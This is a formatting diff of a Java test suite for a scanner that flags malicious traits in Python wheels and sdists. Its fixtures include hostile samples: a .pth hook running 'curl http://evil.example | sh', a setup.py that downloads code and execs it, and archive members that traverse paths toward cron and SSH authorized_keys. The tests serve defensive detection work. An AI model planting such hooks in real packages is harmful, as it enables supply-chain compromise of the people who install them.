@@ -30,7 +30,9 @@ class InspectorTest {
 
   @Test
   void inspect_plainWheel_hasNoFindingsAndReadsMetadata() throws IOException {
-    Inspection i = inspect(Archives.wheel("demo", "1.0", "py3-none-any").zip(dir, "demo-1.0-py3-none-any.whl"));
+    Inspection i =
+        inspect(
+            Archives.wheel("demo", "1.0", "py3-none-any").zip(dir, "demo-1.0-py3-none-any.whl"));
     assertThat(i.kind()).isEqualTo(Inspection.Kind.WHEEL);
     assertThat(i.name()).contains("demo");
     assertThat(i.version()).contains("1.0");
@@ -48,8 +50,9 @@ class InspectorTest {
 
   @Test
   void inspect_pthThatDecodesAndExecs_isPthExec() throws IOException {
-    var w = Archives.wheel("demo", "1.0", "py3-none-any")
-        .add("demo_init.pth", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n");
+    var w =
+        Archives.wheel("demo", "1.0", "py3-none-any")
+            .add("demo_init.pth", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n");
     Inspection i = inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"));
     assertThat(rules(i)).containsExactly("pth-exec");
     assertThat(i.findings().get(0).path()).isEqualTo("demo_init.pth");
@@ -58,18 +61,26 @@ class InspectorTest {
 
   @Test
   void inspect_pthSpawningAProcess_isPthExec() throws IOException {
-    var w = Archives.wheel("demo", "1.0", "py3-none-any")
-        .add("demo.data/purelib/x.pth", "import os; os.system('curl http://evil.example | sh')\n");
+    var w =
+        Archives.wheel("demo", "1.0", "py3-none-any")
+            .add(
+                "demo.data/purelib/x.pth",
+                "import os; os.system('curl http://evil.example | sh')\n");
     assertThat(rules(inspect(w.zip(dir, "demo-1.0-py3-none-any.whl")))).containsExactly("pth-exec");
   }
 
   @Test
   void inspect_setuptoolsAndCoveragePth_areOnlyPthImport() throws IOException {
     // The real lines of setuptools' distutils-precedence.pth and coverage's a1_coverage.pth.
-    var w = Archives.wheel("setuptools", "80.0", "py3-none-any")
-        .add("distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n")
-        .add("a1_coverage.pth", "import sys; exec('import os\\n\\nif os.getenv(\"COVERAGE_PROCESS_START\") or os.getenv(\"COVERAGE_PROCESS_CONFIG\"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup()')\n")
-        .add("plain.pth", "/some/where\n./lib\n");
+    var w =
+        Archives.wheel("setuptools", "80.0", "py3-none-any")
+            .add(
+                "distutils-precedence.pth",
+                "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n")
+            .add(
+                "a1_coverage.pth",
+                "import sys; exec('import os\\n\\nif os.getenv(\"COVERAGE_PROCESS_START\") or os.getenv(\"COVERAGE_PROCESS_CONFIG\"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup()')\n")
+            .add("plain.pth", "/some/where\n./lib\n");
     Inspection i = inspect(w.zip(dir, "setuptools-80.0-py3-none-any.whl"));
     assertThat(rules(i)).containsExactly("pth-import", "pth-import");
     assertThat(i.findings()).allMatch(f -> f.severity() == Finding.Severity.MEDIUM);
@@ -85,8 +96,11 @@ class InspectorTest {
 
   @Test
   void inspect_setupThatDownloadsAndExecs_isDownloadExec() throws IOException {
-    var s = Archives.sdist("demo", "1.0").add("demo-1.0/setup.py",
-        "import urllib.request\nfrom setuptools import setup\ncode = urllib.request.urlopen('http://evil.example/x').read()\nexec(code)\nsetup(name='demo')\n");
+    var s =
+        Archives.sdist("demo", "1.0")
+            .add(
+                "demo-1.0/setup.py",
+                "import urllib.request\nfrom setuptools import setup\ncode = urllib.request.urlopen('http://evil.example/x').read()\nexec(code)\nsetup(name='demo')\n");
     Inspection i = inspect(s.tarGz(dir, "demo-1.0.tar.gz"));
     assertThat(rules(i)).contains("download-exec").doesNotContain("setup-network");
     assertThat(i.installHook()).isTrue();
@@ -94,38 +108,51 @@ class InspectorTest {
 
   @Test
   void inspect_setupThatExecsBase64_isDecodeExec() throws IOException {
-    var s = Archives.sdist("demo", "1.0").add("demo-1.0/setup.py",
-        "import base64\nfrom setuptools import setup\npayload = base64.b64decode('aW1wb3J0IG9z')\nexec(payload)\nsetup(name='demo')\n");
-    assertThat(rules(inspect(s.tarGz(dir, "demo-1.0.tar.gz")))).contains("decode-exec", "setup-exec");
+    var s =
+        Archives.sdist("demo", "1.0")
+            .add(
+                "demo-1.0/setup.py",
+                "import base64\nfrom setuptools import setup\npayload = base64.b64decode('aW1wb3J0IG9z')\nexec(payload)\nsetup(name='demo')\n");
+    assertThat(rules(inspect(s.tarGz(dir, "demo-1.0.tar.gz"))))
+        .contains("decode-exec", "setup-exec");
   }
 
   @Test
   void inspect_setupWithProcessAndHomeFiles_areLowAndMediumFindings() throws IOException {
-    var s = Archives.sdist("demo", "1.0").add("demo-1.0/setup.py",
-        "import subprocess, os\nsubprocess.check_call(['git', 'describe'])\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n");
+    var s =
+        Archives.sdist("demo", "1.0")
+            .add(
+                "demo-1.0/setup.py",
+                "import subprocess, os\nsubprocess.check_call(['git', 'describe'])\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n");
     Inspection i = inspect(s.tarGz(dir, "demo-1.0.tar.gz"));
     assertThat(rules(i)).contains("setup-process", "setup-writes-outside");
   }
 
   @Test
   void inspect_moduleExecOfMarshal_isDecodeExec() throws IOException {
-    var w = Archives.wheel("demo", "1.0", "py3-none-any")
-        .add("demo/core.py", "import marshal\n\nexec(marshal.loads(b'\\xe3\\x00'))\n");
-    assertThat(rules(inspect(w.zip(dir, "demo-1.0-py3-none-any.whl")))).containsExactly("decode-exec");
+    var w =
+        Archives.wheel("demo", "1.0", "py3-none-any")
+            .add("demo/core.py", "import marshal\n\nexec(marshal.loads(b'\\xe3\\x00'))\n");
+    assertThat(rules(inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"))))
+        .containsExactly("decode-exec");
   }
 
   @Test
   void inspect_reCompileBesideBase64_isNothing() throws IOException {
-    var w = Archives.wheel("demo", "1.0", "py3-none-any")
-        .add("demo/core.py", "import re, base64\nP = re.compile('x')\ndata = base64.b64decode(s)\n");
+    var w =
+        Archives.wheel("demo", "1.0", "py3-none-any")
+            .add(
+                "demo/core.py",
+                "import re, base64\nP = re.compile('x')\ndata = base64.b64decode(s)\n");
     assertThat(inspect(w.zip(dir, "demo-1.0-py3-none-any.whl")).findings()).isEmpty();
   }
 
   @Test
   void inspect_elfInPureWheel_isNativeInPure() throws IOException {
-    var w = Archives.wheel("demo", "1.0", "py3-none-any")
-        .add("demo/helper", new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0})
-        .add("demo/_speed.so", new byte[] {0x7f, 'E', 'L', 'F'});
+    var w =
+        Archives.wheel("demo", "1.0", "py3-none-any")
+            .add("demo/helper", new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0})
+            .add("demo/_speed.so", new byte[] {0x7f, 'E', 'L', 'F'});
     Inspection i = inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"));
     assertThat(rules(i)).containsExactly("native-in-pure", "native-in-pure");
     assertThat(i.nativeCode()).isTrue();
@@ -133,8 +160,9 @@ class InspectorTest {
 
   @Test
   void inspect_soInPlatformWheel_isNativeCodeWithoutFinding() throws IOException {
-    var w = Archives.wheel("demo", "1.0", "cp311-cp311-manylinux_2_28_x86_64")
-        .add("demo/_speed.cpython-311-x86_64-linux-gnu.so", new byte[] {0x7f, 'E', 'L', 'F'});
+    var w =
+        Archives.wheel("demo", "1.0", "cp311-cp311-manylinux_2_28_x86_64")
+            .add("demo/_speed.cpython-311-x86_64-linux-gnu.so", new byte[] {0x7f, 'E', 'L', 'F'});
     Inspection i = inspect(w.zip(dir, "demo-1.0-cp311-cp311-manylinux_2_28_x86_64.whl"));
     assertThat(i.findings()).isEmpty();
     assertThat(i.nativeCode()).isTrue();
@@ -142,34 +170,45 @@ class InspectorTest {
 
   @Test
   void inspect_zipInsidePureWheel_isArchiveInPure() throws IOException {
-    var w = Archives.wheel("demo", "1.0", "py3-none-any").add("demo/payload.bin", new byte[] {'P', 'K', 3, 4, 0, 0});
-    assertThat(rules(inspect(w.zip(dir, "demo-1.0-py3-none-any.whl")))).containsExactly("archive-in-pure");
+    var w =
+        Archives.wheel("demo", "1.0", "py3-none-any")
+            .add("demo/payload.bin", new byte[] {'P', 'K', 3, 4, 0, 0});
+    assertThat(rules(inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"))))
+        .containsExactly("archive-in-pure");
   }
 
   @Test
   void inspect_longBase64AndObfuscatedNames_areFound() throws IOException {
     String blob = "QUJD".repeat(3000) + "1234";
-    var w = Archives.wheel("demo", "1.0", "py3-none-any")
-        .add("demo/a.py", "X = '" + blob + "'\n")
-        .add("demo/b.py", "def OO0O0O0O0OO(x):\n    return x\n")
-        .add("demo/c.py", "# pyarmor runtime\n__pyarmor__(__name__, __file__, b'')\n");
+    var w =
+        Archives.wheel("demo", "1.0", "py3-none-any")
+            .add("demo/a.py", "X = '" + blob + "'\n")
+            .add("demo/b.py", "def OO0O0O0O0OO(x):\n    return x\n")
+            .add("demo/c.py", "# pyarmor runtime\n__pyarmor__(__name__, __file__, b'')\n");
     assertThat(rules(inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"))))
         .containsExactly("encoded-blob", "obfuscation", "obfuscation");
   }
 
   @Test
   void inspect_entryPointNamedPip_isACommand() throws IOException {
-    var w = Archives.wheel("demo", "1.0", "py3-none-any")
-        .add("demo-1.0.dist-info/entry_points.txt", "[console_scripts]\npip = demo:main\ndemo = demo:main\n")
-        .add("demo-1.0.data/scripts/sudo", "#!/bin/sh\n");
+    var w =
+        Archives.wheel("demo", "1.0", "py3-none-any")
+            .add(
+                "demo-1.0.dist-info/entry_points.txt",
+                "[console_scripts]\npip = demo:main\ndemo = demo:main\n")
+            .add("demo-1.0.data/scripts/sudo", "#!/bin/sh\n");
     Inspection i = inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"));
     assertThat(i.commands()).extracting(Inspection.Command::name).containsExactly("pip", "sudo");
   }
 
   @Test
   void inspect_pathTraversalAndAbsoluteMembers_arePathTraversal() throws IOException {
-    var s = Archives.sdist("demo", "1.0").add("demo-1.0/../../etc/cron.d/x", "x").add("/etc/passwd", "x")
-        .link("demo-1.0/evil", "../../../home/user/.ssh/authorized_keys").link("demo-1.0/ok", "demo/__init__.py");
+    var s =
+        Archives.sdist("demo", "1.0")
+            .add("demo-1.0/../../etc/cron.d/x", "x")
+            .add("/etc/passwd", "x")
+            .link("demo-1.0/evil", "../../../home/user/.ssh/authorized_keys")
+            .link("demo-1.0/ok", "demo/__init__.py");
     Inspection i = inspect(s.tarGz(dir, "demo-1.0.tar.gz"));
     assertThat(rules(i)).containsExactly("path-traversal", "path-traversal", "path-traversal");
   }
@@ -177,7 +216,8 @@ class InspectorTest {
   @Test
   void inspect_wheelWithDotDotMember_isPathTraversal() throws IOException {
     var w = Archives.wheel("demo", "1.0", "py3-none-any").add("../../bin/evil", "x");
-    assertThat(rules(inspect(w.zip(dir, "demo-1.0-py3-none-any.whl")))).containsExactly("path-traversal");
+    assertThat(rules(inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"))))
+        .containsExactly("path-traversal");
   }
 
   @Test
@@ -186,7 +226,8 @@ class InspectorTest {
     Path p = dir.resolve("demo-1.0.tar.gz");
     try (OutputStream out = new java.util.zip.GZIPOutputStream(Files.newOutputStream(p));
         var tar = new org.apache.commons.compress.archivers.tar.TarArchiveOutputStream(out)) {
-      tar.setBigNumberMode(org.apache.commons.compress.archivers.tar.TarArchiveOutputStream.BIGNUMBER_POSIX);
+      tar.setBigNumberMode(
+          org.apache.commons.compress.archivers.tar.TarArchiveOutputStream.BIGNUMBER_POSIX);
       var e = new org.apache.commons.compress.archivers.tar.TarArchiveEntry("demo-1.0/zeros");
       long n = 160L << 20;
       e.setSize(n);
@@ -213,8 +254,9 @@ class InspectorTest {
         z.closeEntry();
       }
     }
-    Inspection i = new Inspector(new Inspector.Limits(1000, 16L << 30, 48, 50, 1 << 20, 1 << 24))
-        .inspect(p, Optional.of(p.getFileName().toString()));
+    Inspection i =
+        new Inspector(new Inspector.Limits(1000, 16L << 30, 48, 50, 1 << 20, 1 << 24))
+            .inspect(p, Optional.of(p.getFileName().toString()));
     assertThat(rules(i)).containsExactly("archive-bomb");
   }
 
@@ -257,15 +299,21 @@ class InspectorTest {
   @Test
   void inspect_bzip2AndXzSdists_areRead() throws IOException {
     for (String ext : List.of("tar.bz2", "tar.xz")) {
-      Path tar = Archives.sdist("demo", "1.0").add("demo-1.0/x.pth", "import os;os.system('id')\n").tarGz(dir, "t.tar.gz");
+      Path tar =
+          Archives.sdist("demo", "1.0")
+              .add("demo-1.0/x.pth", "import os;os.system('id')\n")
+              .tarGz(dir, "t.tar.gz");
       byte[] plain;
       try (var in = new java.util.zip.GZIPInputStream(Files.newInputStream(tar))) {
         plain = in.readAllBytes();
       }
       Path p = dir.resolve("demo-1.0." + ext);
-      try (OutputStream out = ext.endsWith("bz2")
-          ? new org.apache.commons.compress.compressors.bzip2.BZip2CompressorOutputStream(Files.newOutputStream(p))
-          : new org.apache.commons.compress.compressors.xz.XZCompressorOutputStream(Files.newOutputStream(p))) {
+      try (OutputStream out =
+          ext.endsWith("bz2")
+              ? new org.apache.commons.compress.compressors.bzip2.BZip2CompressorOutputStream(
+                  Files.newOutputStream(p))
+              : new org.apache.commons.compress.compressors.xz.XZCompressorOutputStream(
+                  Files.newOutputStream(p))) {
         out.write(plain);
       }
       Inspection i = inspect(p);
@@ -276,9 +324,10 @@ class InspectorTest {
 
   @Test
   void json_roundTrips() throws IOException {
-    var w = Archives.wheel("demo", "1.0", "py3-none-any")
-        .add("x.pth", "import os;os.system('id')\n")
-        .add("demo-1.0.dist-info/entry_points.txt", "[console_scripts]\nls = demo:main\n");
+    var w =
+        Archives.wheel("demo", "1.0", "py3-none-any")
+            .add("x.pth", "import os;os.system('id')\n")
+            .add("demo-1.0.dist-info/entry_points.txt", "[console_scripts]\nls = demo:main\n");
     Inspection i = inspect(w.zip(dir, "demo-1.0-py3-none-any.whl"));
     assertThat(InspectionJson.read(InspectionJson.write(i))).contains(i);
     assertThat(InspectionJson.read("not json".getBytes(StandardCharsets.UTF_8))).isEmpty();
